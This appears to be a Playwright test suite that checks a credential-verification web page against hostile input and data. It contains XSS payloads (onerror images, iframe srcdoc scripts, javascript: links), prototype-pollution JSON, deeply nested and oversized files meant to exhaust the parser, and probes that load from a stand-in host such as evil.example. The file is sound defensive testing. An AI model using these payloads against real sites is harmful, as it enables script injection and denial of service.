"""Hostile input: nothing runs, nothing leaves, every input ends in a verdict within two seconds.

A canary stands in the page for whatever would call it; dialogs, refused loads and requests to anybody else are written
down as well. Each way to do harm has a twin that shows that it would have been noticed.
"""

import json
from collections.abc import Iterator
from itertools import cycle
from typing import Any

import pytest
from playwright.sync_api import Browser, Dialog, Page

from tests.browser import hostile
from tests.browser.conftest import Visit
from tests.browser.crowd import awarded
from tests.browser.site import VECTORS, Site, page_html, running_site
from tests.browser.test_verify_page import CARD, NOW, open_page, paste
from tools.vectors import world

pytestmark = pytest.mark.browser

WORDS = {"valid", "expired", "revoked", "superseded", "suspended", "not_yet_valid", "invalid", "cannot_tell"}
MOST_MS = 2_000
MOST_BYTES = 100_000_000
MOST_DATA = 4_100_000
"""A little less than a data file may have."""

TRAPS = """
window.caught = [];
window.canary = (from) => window.caught.push(`ran: ${from}`);
addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) =>
  window.caught.push(`refused: ${violatedDirective} ${blockedURI}`));
for (const name of ["alert", "confirm", "prompt", "open"]) window[name] = () => window.caught.push(`called: ${name}`);
"""

DRIVER = """
async (inputs) => {
  const rest = (ms) => new Promise((done) => setTimeout(done, ms));
  const drop = (transfer) =>
    document.body.dispatchEvent(new DragEvent("drop", { dataTransfer: transfer, bubbles: true, cancelable: true }));
  const withFile = (text) => {
    const transfer = new DataTransfer();
    transfer.items.add(new File([text], "<img src=x onerror=canary('file')>.json", { type: "application/json" }));
    return transfer;
  };
  const WAYS = {
    paste(text) {
      document.getElementById("paste").value = text;
      document.getElementById("form").requestSubmit();
    },
    link(text) {
      location.hash = "";
      location.hash = text.includes("#") ? text.slice(text.indexOf("#")) : text;
    },
    file(text) {
      const input = document.getElementById("file");
      input.files = withFile(text).files;
      input.dispatchEvent(new Event("change", { bubbles: true }));
    },
    drop: (text) => drop(withFile(text)),
    "dropped text"(text) {
      const transfer = new DataTransfer();
      transfer.setData("text/plain", text);
      drop(transfer);
    },
  };
  const found = [];
  for (const [name, text, way] of inputs) {
    const [before, many] = [document.querySelector(".verdict"), document.querySelector(".bulk")];
    const began = performance.now();
    WAYS[way](text);
    let word = "";
    while (performance.now() - began < 10_000) {
      const now = document.querySelector(".verdict");
      word = now && now !== before ? now.getAttribute("data-verdict") : "";
      // More than a few make a table: finished when there is nothing to stop any more.
      const table = document.querySelector(".bulk:has([class=csv]):not(:has(.stop))");
      if (table && table !== many) word = "table";
      if (word) break;
      await rest(4);
    }
    found.push({ name, way, word, ms: performance.now() - began });
  }
  return found;
}
"""


class Trapped:
    """A page in which everything that goes wrong is written down."""

    def __init__(self, page: Page, site: Site) -> None:
        self.page, self.site = page, site
        self.foreign: list[str] = []
        self.dialogs: list[str] = []
        self.errors: list[str] = []
        page.add_init_script(TRAPS)
        page.on("request", self._asked)
        page.on("dialog", self._spoken)
        page.on("pageerror", lambda error: self.errors.append(str(error)))
        page.on("popup", lambda _: self.dialogs.append("a window"))

    def _spoken(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def _asked(self, request: Any) -> None:
        if not request.url.startswith((self.site.address + "/", "data:", "blob:")):
            self.foreign.append(request.url)

    def open(self, fragment: str = "") -> None:
        self.page.clock.set_fixed_time(NOW)
        self.page.goto(f"{self.site.address}/v/{'#' + fragment if fragment else ''}")
        self.page.wait_for_selector("#form:visible")

    def memory(self) -> int:
        """The bytes that the page's objects take."""
        session = self.page.context.new_cdp_session(self.page)
        session.send("HeapProfiler.collectGarbage")
        return int(session.send("Runtime.getHeapUsage")["usedSize"])

    def harm(self) -> list[str]:
        """All that was caught."""
        caught: list[str] = self.page.evaluate("window.caught")
        polluted = self.page.evaluate(
            "['polluted', 'verdict'].filter((name) => name in {} || name in [] || name in (() => 0))"
        )
        return [*caught, *polluted, *self.foreign, *self.dialogs, *self.errors]


@pytest.fixture
def trapped(browser: Browser, site: Site) -> Iterator[Trapped]:
    context = browser.new_context(viewport={"width": 390, "height": 844}, locale="en-GB")
    yield Trapped(context.new_page(), site)
    context.close()


class TestInputs:
    @pytest.mark.parametrize("step", [6, pytest.param(1, marks=pytest.mark.slow)])
    def test_each_ends_in_a_verdict_and_nothing_happens(self, trapped: Trapped, step: int) -> None:
        """Every sixth input at the desk, every one in ``make test-slow``."""
        ways = cycle(("paste", "file", "drop", "dropped text", "paste"))
        all_ = [
            (one.name, one.text, "link" if "card" in one.name or "fragment" in one.name else next(ways))
            for one in hostile.inputs(CARD)
        ]
        assert len(all_) >= 500
        all_ = [one for at, one in enumerate(all_) if at % step == 0 or one[0] == "60 good credentials"]
        found: list[dict[str, Any]] = []
        trapped.open()
        for at in range(0, len(all_), 50):
            found += trapped.page.evaluate(DRIVER, [list(one) for one in all_[at : at + 50]])
        tables = [one["name"] for one in found if one["word"] == "table"]
        assert tables == ["60 good credentials"]
        assert [one for one in found if one["word"] not in WORDS | {"table"}] == []
        slow = [one for one in found if one["ms"] > MOST_MS]
        assert slow == []
        wrong = [
            one for one in found if one["word"] == "valid" and not one["name"].startswith(("good card", "60 good"))
        ]
        assert wrong == []
        assert {one["way"] for one in found} == {"paste", "file", "drop", "dropped text", "link"}
        assert trapped.harm() == []
        assert trapped.memory() < MOST_BYTES
        # It still works.
        (good,) = trapped.page.evaluate(DRIVER, [["good", json.dumps(world.registered("aisyah")), "paste"]])
        assert good["word"] == "valid"

    def test_no_link_of_the_page_leads_away(self, trapped: Trapped) -> None:
        trapped.open()
        for scheme in hostile.SCHEMES:
            trapped.page.evaluate(DRIVER, [["link", f"{scheme}#{CARD}", "paste"]])
            hrefs = trapped.page.evaluate(
                "[...document.querySelectorAll('[href],[src],[action]')].map((e) => e.href || e.src || e.action)"
            )
            odd = [href for href in hrefs if not str(href).startswith((trapped.site.address, "data:,"))]
            assert odd == []
        assert trapped.harm() == []


THROW = """
() => {
  const script = document.createElement("script");
  script.textContent = "throw new Error('thrown')";
  document.head.append(script);
}
"""
CAUGHT = """
() => {
  const image = "<img src=x onerror=canary('img')>";
  const frame = "<iframe srcdoc=\\"<script>parent.canary('frame')</script>\\"></iframe>";
  document.getElementById("results").innerHTML = image + frame;
  document.body.append(Object.assign(new Image(), { src: "https://evil.example/x.png" }));
  Object.prototype.polluted = 1;
}
"""


class TestTraps:
    """The twin of all that: without the page's policy each trap catches what it is there for."""

    def test_they_catch(self, trapped: Trapped) -> None:
        trapped.site.files["v/"] = without_policy(trapped.site)
        trapped.open()
        trapped.page.evaluate(THROW)
        trapped.page.evaluate(CAUGHT)
        trapped.page.wait_for_timeout(500)
        harm = " ".join(trapped.harm())
        for sign in ("ran: img", "ran: frame", "polluted", "evil.example", "thrown"):
            assert sign in harm


class TestRegistered:
    """A provider writes script into all that it may write: signed, registered and valid, it stays text."""

    def test_it_is_shown_letter_by_letter(self, trapped: Trapped) -> None:
        site = trapped.site
        for number, script in enumerate(hostile.SCRIPTS):
            made = awarded(f"mc-{number}", script, script)
            site.files.update(made.files)
            site.files["keys.json"] = with_names(made.files["keys.json"], script)
            trapped.page.goto("about:blank")
            trapped.open()
            (found,) = trapped.page.evaluate(DRIVER, [["registered", made.document, "file"]])
            assert found["word"] == "valid", script
            trapped.page.wait_for_selector(".worth:not(:empty)")
            shown = trapped.page.inner_text("main")
            assert shown.count(script.strip("'\" ")) >= 3, script
            assert trapped.harm() == [], script


def with_names(keys: str, script: str) -> str:
    """``/keys.json`` with ``script`` in every name and event."""
    document = json.loads(keys)
    for issuer in document["issuers"]:
        issuer["name"] = dict.fromkeys(("en", "ms", "ar"), script)
        issuer["events"] = [
            {"kind": script, "day": script},
            {
                "kind": "renamed",
                "day": "2026-11-20",
                "former_name": {"en": world.NAMES[world.UNI]["en"]},
                "name": {"en": script},
            },
            {"kind": "merged", "day": "2026-11-20", "into": script},
        ]
    return json.dumps(document)


def without_policy(site: Site) -> str:
    """The page without its Content-Security-Policy."""
    html = page_html(site.values)
    begin = html.index('<meta http-equiv="Content-Security-Policy"')
    return html[:begin] + html[html.index(">", begin) + 1 :]


def published(path: str) -> Any:
    return json.loads(published_text(path))


def many_templates() -> str:
    """As many as a file may have: each of its own digest, none right."""
    document = published("lookup/0/templates.json")
    some = next(iter(document["templates"].values()))
    text = json.dumps(some, separators=(",", ":"))
    entries = ",".join(f'"{number:064x}":{text}' for number in range(MOST_DATA // (len(text) + 68)))
    document["templates"] = "@"
    return json.dumps(document).replace('"@"', "{" + entries + "}")


def many_right_templates() -> str:
    """Of many versions, each right by itself; what most work is done for."""
    from bukti.proof.jcs import canonical
    from tools.vectors import site

    document = published("lookup/0/templates.json")
    for version in range(3, 2_300):
        achievement = world.plain(world.UNI, "coding", version, "Coding")
        template = world.template(world.UNI, "coding", version, achievement, until=False, results=0).json_form()
        digest = site.template_digest(json.loads(canonical(template)))
        document["templates"][digest] = template
        source = {"provider": world.UNI, "mc": "coding", "version": version, "key": "k1", "authorised": True}
        document["sources"].append(source | {"templates": [digest]})
    return json.dumps(document)


def many_issuers() -> str:
    document = published("keys.json")
    some = document["issuers"][0]
    document["issuers"] = [{**some, "id": f"p{number}"} for number in range(MOST_DATA // 520)]
    return json.dumps(document, separators=(",", ":"))


def many_rows() -> str:
    document = published("lookup/0/0.json")
    document["rows"] += "/" * (32 * ((MOST_DATA - len(document["rows"])) // 32))
    return json.dumps(document)


def published_text(path: str) -> str:
    return (VECTORS / "site" / path).read_text(encoding="utf-8")


def polluted(path: str) -> str:
    text = published_text(path).strip()
    return '{"__proto__": {"polluted": 1, "snapshot": "x"}, "constructor": {"prototype": {"polluted": 1}}, ' + text[1:]


def zones() -> str:
    document = published("keys.json")
    for issuer in document["issuers"]:
        issuer["zone"] = "Nowhere/At_All"
    return json.dumps(document)


DATA = {
    "four million bytes of templates": ("lookup/0/templates.json", many_templates),
    "two thousand right templates": ("lookup/0/templates.json", many_right_templates),
    "thousands of issuers": ("keys.json", many_issuers),
    "four million bytes of rows": ("lookup/0/0.json", many_rows),
    "a prototype in keys": ("keys.json", lambda: polluted("keys.json")),
    "a prototype in templates": ("lookup/0/templates.json", lambda: polluted("lookup/0/templates.json")),
    "a prototype in rows": ("lookup/0/0.json", lambda: polluted("lookup/0/0.json")),
    "keys beyond the limit": ("keys.json", lambda: published_text("keys.json") + " " * 40_000_000),
    "deep keys": ("keys.json", lambda: "[" * 1_000_000),
    "deep templates": ("lookup/0/templates.json", lambda: '{"a":' * 1_000_000),
    "a zone that there is not": ("keys.json", zones),
    "deep facts": ("lookup/0/facts.en.json", lambda: '{"mcs":' * 1_000_000),
    "a prototype in facts": ("lookup/0/facts.en.json", lambda: '{"mcs": {"__proto__": {"polluted": 1}}}'),
}


class TestData:
    @pytest.mark.parametrize("name", DATA)
    def test_hostile_data_ends_in_time(self, trapped: Trapped, name: str) -> None:
        path, make = DATA[name]
        trapped.site.files[path] = text = make()
        assert not name.startswith(("two", "four", "thousands")) or 3_500_000 < len(text.encode()) <= 4 << 20
        trapped.open()
        (found,) = trapped.page.evaluate(DRIVER, [[name, json.dumps(world.registered("aisyah")), "paste"]])
        assert found["word"] in ("valid", "cannot_tell"), found
        assert found["ms"] <= MOST_MS, found
        assert trapped.harm() == []

    def test_facts_are_text_and_lead_nowhere_else(self, trapped: Trapped) -> None:
        for script in hostile.SCRIPTS:
            made = awarded("facts", "Title", script)
            trapped.site.files.update(made.files)
            facts = json.loads(made.files["lookup/0/facts.en.json"])
            for each in facts["mcs"].values():
                each |= {
                    "page": script,
                    "outcomes": [script, {"x": script}],
                    "assessment": [{"text": script}],
                    "level": script,
                }
            trapped.site.files["lookup/0/facts.en.json"] = json.dumps(facts)
            trapped.page.goto("about:blank")
            trapped.open()
            trapped.page.evaluate(DRIVER, [["facts", made.document, "paste"]])
            trapped.page.wait_for_selector(".worth:not(:empty)")
            assert script.strip("'\" ") in trapped.page.inner_text(".worth")
            assert trapped.harm() == []


HERE = {
    "markup": "document.body.innerHTML = '<b id=probe>x</b>'; return document.getElementById('probe') !== null",
    "code": "return eval('1 + 1') === 2",
    "function": "return new Function('return 2')() === 2",
    "timer": "setTimeout('window.ran = true'); await rest(100); return window.ran === true",
    "handler": """
        const button = document.createElement("button");
        button.setAttribute("onclick", "window.ran = true");
        document.body.append(button);
        button.click();
        return window.ran === true""",
    "inline script": """
        const script = document.createElement("script");
        script.textContent = "window.ran = true";
        document.body.append(script);
        return window.ran === true""",
    "link": """
        const link = document.createElement("a");
        link.href = "javascript:window.ran = true";
        document.body.append(link);
        link.click();
        await rest(100);
        return window.ran === true""",
    "worker": """
        const address = URL.createObjectURL(new Blob(["postMessage(1)"]));
        return await new Promise((done) => {
          const worker = new Worker(address);
          worker.onmessage = () => done(true);
          worker.onerror = () => done(false);
        })""",
    "policy": "trustedTypes.createPolicy('other', { createHTML: (text) => text }); return true",
    "style": """
        const style = document.createElement("style");
        style.textContent = "body { outline: 7px solid }";
        document.head.append(style);
        return getComputedStyle(document.body).outlineWidth === "7px" """,
    "base": """
        const base = document.createElement("base");
        base.href = `${OTHER}/`;
        document.head.prepend(base);
        return document.baseURI.startsWith(OTHER)""",
}
"""What each probe answers tells whether it was done."""
AWAY = {
    "script": "document.head.append(Object.assign(document.createElement('script'), { src: `${OTHER}/x` }))",
    "module": "await import(`${OTHER}/x`)",
    "style sheet": """
        const link = document.createElement("link");
        Object.assign(link, { rel: "stylesheet", href: `${OTHER}/x` });
        document.head.append(link)""",
    "fetch": "await fetch(`${OTHER}/x`, { mode: 'no-cors' })",
    "image": "new Image().src = `${OTHER}/x`",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), { src: `${OTHER}/x` }))",
    "object": "document.body.append(Object.assign(document.createElement('object'), { data: `${OTHER}/x` }))",
    "video": "document.createElement('video').src = `${OTHER}/x`",
    "events": "new EventSource(`${OTHER}/x`)",
    "form": """
        const form = Object.assign(document.createElement("form"), { action: `${OTHER}/x` });
        document.body.append(form);
        form.submit()""",
}
"""What the other host was asked for tells whether it was done."""
REST = "const rest = (ms) => new Promise((done) => setTimeout(done, ms));"


class TestPolicy:
    """The real page refuses each of these; the same page without its policy does them all."""

    @pytest.mark.parametrize("probe", HERE)
    def test_nothing_runs(self, browser: Browser, site: Site, probe: str) -> None:
        assert self._answer(browser, site, HERE[probe], "https://other.example") is False
        site.files["v/"] = without_policy(site)
        assert self._answer(browser, site, HERE[probe], "https://other.example") is True

    @pytest.mark.parametrize("probe", AWAY)
    def test_nobody_else_is_asked(self, browser: Browser, site: Site, probe: str) -> None:
        with running_site() as other:
            self._answer(browser, site, AWAY[probe], other.address)
            assert other.asked == []
            site.files["v/"] = without_policy(site)
            self._answer(browser, site, AWAY[probe], other.address)
            assert "x" in other.asked

    @staticmethod
    def _answer(browser: Browser, site: Site, probe: str, other: str) -> bool:
        """What a probe says, run as the page's own code would be: what tools run by themselves may do more."""
        context = browser.new_context(locale="en-GB")
        page = context.new_page()
        page.goto(f"{site.address}/v/")
        page.wait_for_selector("#form:visible")
        body = f"const OTHER = {json.dumps(other)}; {REST} await rest(0); {probe}"
        page.evaluate(
            f"() => {{ (async () => {{ {body} }})().then((said) => window.said = said, () => window.said = false) }}"
        )
        page.wait_for_timeout(500)
        said = page.evaluate("window.said")
        context.close()
        return bool(said)

    def test_in_a_frame_no_verdict_is_shown(self, visit: Visit, site: Site) -> None:
        with running_site() as other:
            other.files["frame.html"] = (
                f"<!doctype html><title>f</title><iframe src='{site.address}/v/#{CARD}' width=390 height=800></iframe>"
            )
            visit.page.goto(f"{other.address}/frame.html")
            frame = visit.page.frame_locator("iframe")
            frame.get_by_role("link").first.wait_for()
            visit.page.wait_for_timeout(1_500)
            assert frame.locator("[data-verdict]").count() == 0
            assert "Genuine" not in frame.locator("body").inner_text()
        open_page(visit, site)
        paste(visit, f"https://bukti.example/v/#{CARD}")
        assert visit.verdict() == "valid", "the twin: by itself it shows one"
